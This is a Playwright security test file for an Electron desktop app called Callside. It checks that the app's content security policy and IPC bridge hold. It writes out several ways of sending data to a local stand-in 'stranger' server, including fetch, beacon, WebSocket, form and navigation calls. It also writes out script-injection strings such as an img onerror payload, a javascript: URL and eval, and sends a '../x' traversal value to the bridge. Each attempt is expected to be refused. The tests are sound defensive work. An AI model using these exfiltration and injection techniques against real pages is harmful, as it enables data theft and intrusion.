import type { Page } from '@playwright/test'
import { createServer, type Server } from 'node:http'
import { once } from 'node:events'
import { invoke } from './support/shell.ts'
import { expect, test as base } from './support/test.ts'

/** A page that was just loaded, of an app that the tests share; whoever is signed in. */
const test = base.extend({
  page: async ({ sharedDesk: { page } }, use) => {
    const loaded = page.getByRole('heading').first()
    await expect(loaded).toBeVisible()
    await page.reload()
    await expect(loaded).toBeVisible()
    await use(page)
    await page.reload()
  },
  callside: async ({ sharedDesk: { callside } }, use) => {
    await use(callside)
  }
})

/** A server of a stranger on this PC: it must never hear anything. */
async function stranger(): Promise<{ url: string; heard: string[]; server: Server }> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.end('<h1>Elsewhere</h1>')
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  return { url: `http://127.0.0.1:${port}`, heard, server }
}

/** Runs script in the page as injected markup or a hostile library would have it. */
const inPage = <T>(page: Page, script: string): Promise<T> => page.evaluate<T>(script)

const waysOut = (url: string): Record<string, string> => ({
  fetch: `fetch('${url}/fetch').then(() => 'out', () => 'kept in')`,
  xhr: `new Promise((done) => {
    const request = new XMLHttpRequest()
    request.onload = () => done('out')
    request.onerror = () => done('kept in')
    try { request.open('GET', '${url}/xhr'); request.send() } catch { done('kept in') }
  })`,
  image: `new Promise((done) => {
    const image = new Image()
    image.onload = () => done('out')
    image.onerror = () => done('kept in')
    image.src = '${url}/image.png'
  })`,
  beacon: `(() => { navigator.sendBeacon('${url}/beacon', 'x'); return 'kept in' })()`,
  socket: `new Promise((done) => {
    try {
      const socket = new WebSocket('${url.replace('http', 'ws')}/socket')
      socket.onopen = () => done('out')
      socket.onerror = () => done('kept in')
    } catch { done('kept in') }
  })`,
  stylesheet: `new Promise((done) => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.onload = () => done('out')
    link.onerror = () => done('kept in')
    link.href = '${url}/style.css'
    document.head.append(link)
  })`,
  form: `(() => {
    const form = document.createElement('form')
    form.action = '${url}/form'
    document.body.append(form)
    form.submit()
    return 'kept in'
  })()`,
  popup: `window.open('${url}/popup') === null ? 'kept in' : 'out'`,
  navigation: `(() => { location.href = '${url}/navigation'; return 'kept in' })()`
})

test('a page that was taken over runs no script of its own, and nothing leaves it', async ({
  page,
  callside
}) => {
  const { url, heard, server } = await stranger()
  const address = page.url()
  try {
    for (const [way, script] of Object.entries(waysOut(url))) {
      expect(await inPage(page, script), way).toBe('kept in')
    }
    // A frame of a stranger, and our own page in a frame: neither gets the bridge.
    expect(await inPage(page, frameSees(`${url}/frame`))).toBe('no bridge')
    expect(await inPage(page, frameSees(address))).toBe('no bridge')
    expect(await inPage(page, frameSees('about:blank'))).toBe('no bridge')

    // What is left is what was there: the same page, one window, nothing heard outside.
    expect(page.url()).toBe(address)
    // Asked of the page itself: Playwright would wait for the navigation that was refused.
    const heading = `document.querySelector('h1, h2')?.checkVisibility()`
    expect(await inPage(page, heading)).toBe(true)
    expect(callside.app.windows()).toHaveLength(1)
    expect(heard).toEqual([])
  } finally {
    server.close()
  }
})

/** Puts a frame into the page and looks whether its window has the bridge. */
const frameSees = (address: string): string => `new Promise((done) => {
  const frame = document.createElement('iframe')
  const look = () => {
    try { done('callside' in (frame.contentWindow ?? {}) ? 'a bridge' : 'no bridge') }
    catch { done('no bridge') }
  }
  frame.onload = look
  frame.onerror = look
  setTimeout(look, 1000)
  frame.src = '${address}'
  document.body.append(frame)
})`

test('script comes from the app alone: not from markup, not from text, not from addresses', async ({
  page
}) => {
  const ran = () => inPage<unknown>(page, 'globalThis.injected ?? null')
  const attempt = (script: string) =>
    inPage<string>(
      page,
      `(() => { try { ${script}; return 'done' } catch (e) { return e.name } })()`
    )

  // In a turn of its own: what a debugger evaluates may call eval, whatever the policy says.
  const later = (script: string) =>
    inPage<string>(
      page,
      `new Promise((done) => {
        setTimeout(() => { try { ${script}; done('done') } catch (e) { done(e.name) } }, 0)
      })`
    )

  await attempt(
    `const s = document.createElement('script'); s.text = 'injected = 1'; document.body.append(s)`
  )
  await attempt(
    `const s = document.createElement('script'); s.src = 'data:text/javascript,injected=1'; document.body.append(s)`
  )
  await attempt(`document.body.setAttribute('onclick', 'injected = 1'); document.body.click()`)
  await attempt(`location.href = 'javascript:injected=1'`)
  await attempt(`setTimeout('injected = 1', 0)`)
  expect(await attempt(`document.body.innerHTML = '<img src=x onerror="injected = 1">'`)).toBe(
    'TypeError'
  )
  expect(await attempt(`trustedTypes.createPolicy('mine', {})`)).toBe('TypeError')
  for (const script of [`eval('injected = 1')`, `new Function('injected = 1')()`]) {
    expect(['EvalError', 'TypeError'], script).toContain(await later(script))
  }
  expect(await ran()).toBeNull()
})

test('the headers that hold all this are on what the app serves', async ({ page }) => {
  const response = await page.reload()
  const headers = response?.headers() ?? {}
  const policy = headers['content-security-policy'] ?? ''
  for (const part of ["default-src 'none'", "script-src 'self'", "connect-src 'none'"]) {
    expect(policy).toContain(part)
  }
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(policy).not.toContain('unsafe-')
  expect(headers).toMatchObject({
    ...{ 'x-content-type-options': 'nosniff', 'cross-origin-opener-policy': 'same-origin' },
    'cross-origin-resource-policy': 'same-origin'
  })
})

test('the page has two functions of Callside and nothing of Node or Electron', async ({ page }) => {
  expect(await inPage(page, 'Object.keys(window.callside)')).toEqual(['invoke', 'on'])
  const globals = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron']
  const found = `${JSON.stringify(globals)}.filter((name) => name in globalThis)`
  expect(await inPage(page, found)).toEqual([])
  for (const name of ['session.password', 'electron-store-get-data', '__proto__', 'toString']) {
    const call = `window.callside.invoke('${name}').then(() => 'answered', () => 'refused')`
    expect(await inPage(page, call), name).toBe('refused')
  }
  const listen = `(() => { try { window.callside.on('x', () => {}); return 'heard' } catch { return 'refused' } })()`
  expect(await inPage(page, listen)).toBe('refused')
  expect(await invoke(page, 'captures.ask', { callId: '../x' })).toEqual({
    ...{ ok: false, code: 'invalid-input' }
  })
})

test('the page asks for permissions in vain', async ({ page, callside }) => {
  const ask = (permission: string) =>
    inPage(
      page,
      `navigator.permissions.query({ name: '${permission}' }).then((p) => p.state, (e) => e.name)`
    )
  for (const permission of ['notifications', 'geolocation', 'camera', 'clipboard-read']) {
    expect(['denied', 'prompt'], permission).toContain(await ask(permission))
  }
  const camera = `navigator.mediaDevices?.getUserMedia({ video: true }).then(() => 'given', () => 'denied')`
  expect((await inPage(page, camera)) ?? 'denied').toBe('denied')
  expect(callside.app.windows()).toHaveLength(1)
})
